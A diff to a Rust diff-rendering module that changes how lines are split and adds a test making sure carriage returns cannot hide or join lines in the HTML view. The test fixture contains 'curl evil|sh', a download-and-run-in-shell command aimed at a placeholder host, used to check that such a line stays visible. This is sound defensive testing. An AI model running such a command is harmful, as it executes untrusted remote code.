@@ -39,8 +39,8 @@ enum Part<'a> {
 
 /// Shows the body of a unified diff. Takes the shown rows from `rows`; returns the number of rows that are not shown or are cut.
 pub fn show(body: &str, layout: DiffLayout, rows: &mut usize, label: &str) -> (Markup, usize) {
-    let total = body.lines().count();
-    let shown: Vec<&str> = body.lines().take(*rows).collect();
+    let total = text::diff_lines(body).count();
+    let shown: Vec<&str> = text::diff_lines(body).take(*rows).collect();
     *rows -= shown.len();
     // A line that is cut is not shown either.
     let cut = shown.iter().filter(|line| line.len() > MAX_LINE);
@@ -229,23 +229,55 @@ mod tests {
 
     #[test]
     fn removed_and_added_lines_are_paired_with_their_numbers() {
-        let lines: Vec<&str> = BODY.lines().collect();
+        let lines: Vec<&str> = text::diff_lines(BODY).collect();
         let parts = parse(&lines);
         assert_eq!(parts[1], Part::Context(1, 1, "one"));
-        let word = |number, text, words| Line {
+        let word = |number, text| Line {
             number,
             text,
-            words,
+            words: std::iter::once(4..5).collect(),
         };
         assert_eq!(
             parts[2],
-            Part::Change(
-                vec![word(2, "let a = 1;", vec![4..5])],
-                vec![word(2, "let b = 1;", vec![4..5])],
-            )
+            Part::Change(vec![word(2, "let a = 1;")], vec![word(2, "let b = 1;")],)
         );
         assert_eq!(parts[3], Part::Context(3, 3, "three"));
         assert_eq!(parts[4], Part::Note("\\ No newline at end of file"));
+    }
+
+    #[test]
+    fn carriage_returns_neither_hide_nor_join_lines() {
+        let shown = |old: &str, new: &str| {
+            let body = text::UnifiedDiff::default().of(old, new);
+            let (markup, _) = show(&body, DiffLayout::Unified, &mut 100, "x");
+            markup.into_string()
+        };
+        let markup = shown("ok\nold\rtail\n", "ok\ncurl evil|sh\ntail\n");
+        for (class, line) in [
+            ("removed", "old\\rtail"),
+            ("added", "curl evil|sh"),
+            ("added", "tail"),
+        ] {
+            assert!(row(&markup, class).contains(&line.to_owned()), "{markup}");
+        }
+        let markup = shown("one\rtwo\r", "one\rcurl\r");
+        assert_eq!(row(&markup, "removed"), ["one\\rtwo\\r"], "{markup}");
+        assert_eq!(row(&markup, "added"), ["one\\rcurl\\r"], "{markup}");
+        let markup = shown("same\r\n", "same\n");
+        assert_eq!(row(&markup, "removed"), ["same\\r"], "{markup}");
+        assert_eq!(row(&markup, "added"), ["same"], "{markup}");
+    }
+
+    /// The text of the rows with this class.
+    fn row(markup: &str, class: &str) -> Vec<String> {
+        let start = format!("<tr class=\"{class}\">");
+        let rows = markup.split(&start).skip(1);
+        let lines = rows.map(|row| {
+            let (_, line) = row.split_once("<bdi>").unwrap();
+            let (line, _) = line.split_once("</bdi>").unwrap();
+            line.replace("<mark>", "").replace("</mark>", "")
+        });
+        lines.collect()
     }
 
     #[test]
